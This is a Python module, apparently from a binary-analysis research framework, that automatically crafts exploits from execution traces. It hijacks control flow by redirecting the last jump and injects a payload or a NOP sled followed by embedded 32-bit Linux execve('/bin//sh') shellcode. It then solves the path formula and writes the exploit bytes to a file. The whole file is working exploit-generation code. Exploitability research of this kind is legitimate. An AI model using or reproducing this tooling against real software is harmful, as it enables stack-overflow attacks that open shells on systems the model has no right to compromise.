"""Exploit crafting on top of the path predicate.

The crafting helpers take a raw trace and return the trace to concretize
together with the assertions to check after it. ``output_exploit`` turns
both into a formula, solves it and writes the decoded input bytes.
"""
from __future__ import annotations

import logging
import re
from operator import itemgetter
from pathlib import Path
from typing import Iterable, List, Optional, Sequence, Tuple, Union

from .config import TraceOptions
from .driver import generate_formula
from .errors import ExploitError
from .il import (
    Assert, BinOp, BinOpType, Exp, Int, Jmp, Label, Load, Move, Stmt, Var, exp_false, reg_8,
    reg_32,
)
from .solver_integration import SMTSolver, write_formula

LOGGER = logging.getLogger(__name__)

SYMBOLIC_INPUT = re.compile(r"^symb_(\d+)$")

# execve("/bin//sh") for 32-bit Linux
SHELLCODE = (b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e"
             b"\x89\xe3\x50\x53\x89\xe1\x31\xd2\xb0\x0b\xcd\x80")
NOP = 0x90
# Distance between the recorded stack and the stack of an uninstrumented run.
PIN_OFFSET = 400

Crafted = Tuple[List[Stmt], List[Stmt]]


def decode_exploit(answers: Iterable[Tuple[str, int]], padding: bool = False,
                   pad_byte: int = 1) -> bytes:
    """Order the input bytes of a solver answer by their taint index.

    Only ``symb_<n>`` variables are inputs. With ``padding`` the indices
    missing between 1 and the highest one are filled with ``pad_byte``.
    """
    inputs = []
    for name, value in answers:
        match = SYMBOLIC_INPUT.match(name)
        if match:
            inputs.append((int(match.group(1)), value))
    inputs.sort(key=itemgetter(0))
    if not padding:
        return bytes(value & 0xFF for _, value in inputs)
    out = []
    expected = 1
    for index, value in inputs:
        while expected < index:
            out.append(pad_byte & 0xFF)
            expected += 1
        out.append(value & 0xFF)
        expected = index + 1
    return bytes(out)


def nopsled(n: int) -> bytes:
    return bytes([NOP]) * n


def get_last_jmp_exp(trace: Sequence[Stmt]) -> Tuple[Jmp, List[Stmt]]:
    """The last jump of ``trace`` and the statements preceding it."""
    for i in range(len(trace) - 1, -1, -1):
        if isinstance(trace[i], Jmp):
            return trace[i], list(trace[:i])
    raise ExploitError("no jump found")


def get_last_load_exp(trace: Sequence[Stmt]) -> Tuple[Exp, Exp]:
    for stmt in reversed(trace):
        if isinstance(stmt, Move) and isinstance(stmt.exp, Load):
            return stmt.exp.mem, stmt.exp.index
    raise ExploitError("no load found")


def hijack_control(target: Exp, trace: Sequence[Stmt]) -> Tuple[List[Stmt], Assert]:
    """Replace the last jump of ``trace`` with an assertion on its target."""
    jmp, trace = get_last_jmp_exp(trace)
    return trace, Assert(BinOp(BinOpType.EQ, jmp.exp, target), jmp.attrs)


def control_flow(addr: str, trace: Sequence[Stmt]) -> Crafted:
    """Redirect the last jump to ``addr`` (hexadecimal, without ``0x``)."""
    try:
        target = Int(int(addr, 16), reg_32)
    except ValueError:
        raise ExploitError(f"not a hexadecimal address: {addr!r}") from None
    trace, assertion = hijack_control(target, trace)
    return trace, [assertion]


def limited_control(trace: Sequence[Stmt]) -> Crafted:
    """Leave the last jump target symbolic, to enumerate reachable targets."""
    target = Var.new("symb_jump_target", reg_32)
    trace, assertion = hijack_control(target, trace)
    return trace, [assertion]


def payload_assertions(start: int, payload: bytes, trace: Sequence[Stmt]) -> List[Stmt]:
    """Assert ``payload`` sits ``start`` bytes past the last loaded address."""
    mem, index = get_last_load_exp(trace)
    assertions: List[Stmt] = []
    for i, value in enumerate(payload, start):
        where = BinOp(BinOpType.PLUS, index, Int(i, reg_32))
        load = Load(mem, where, exp_false, reg_8)
        assertions.append(Assert(BinOp(BinOpType.EQ, load, Int(value, reg_8))))
    return assertions


def inject_payload(start: int, payload: bytes, trace: Sequence[Stmt]) -> Crafted:
    _, trace = get_last_jmp_exp(trace)
    return trace, payload_assertions(start, payload, trace)


def add_payload(payload: Union[bytes, str], trace: Sequence[Stmt]) -> Crafted:
    """Place ``payload`` right after the return address."""
    if isinstance(payload, str):
        payload = payload.encode("latin-1")
    return inject_payload(0, payload, trace)


def add_payload_from_file(path: Union[str, Path], trace: Sequence[Stmt]) -> Crafted:
    return inject_payload(0, Path(path).read_bytes(), trace)


def get_stack_address(trace: Sequence[Stmt]) -> int:
    """Address of the last memory operand recorded in ``trace``."""
    for stmt in reversed(trace):
        if isinstance(stmt, Label) and stmt.context:
            addresses = [attr.address for attr in stmt.context if attr.is_memory]
            if not addresses:
                break
            return addresses[-1]
    raise ExploitError("could not get address")


def inject_shellcode(nops: int, trace: Sequence[Stmt]) -> Crafted:
    """Hijack the last jump into a NOP sled followed by ``SHELLCODE``."""
    target = Int(get_stack_address(trace) + PIN_OFFSET, reg_32)
    trace, assertion = hijack_control(target, trace)
    shell = payload_assertions(4, nopsled(nops) + SHELLCODE, trace)
    return trace, shell + [assertion]


def output_exploit(path: Union[str, Path], trace: Sequence[Stmt],
                   options: Optional[TraceOptions] = None,
                   extra_assertions: Iterable[Stmt] = (),
                   solver: Optional[SMTSolver] = None,
                   formula_path: Union[str, Path, None] = None) -> bytes:
    """Solve the trace's formula and write the decoded input to ``path``."""
    options = options or TraceOptions()
    outcome = generate_formula(trace, options, extra_assertions)
    if not outcome.ok or outcome.formula is None:
        raise ExploitError(f"formula generation {outcome.kind.value}: {outcome.error}")
    if formula_path is not None:
        write_formula(formula_path, outcome.formula)
    result = (solver or SMTSolver()).solve(outcome.formula)
    if not result.sat:
        raise ExploitError("the formula is unsatisfiable, no input follows this path")
    exploit = decode_exploit(result.assignments, options.padding, options.pad_byte)
    Path(path).write_bytes(exploit)
    LOGGER.info("Exploit string was written out to file %s", path)
    return exploit
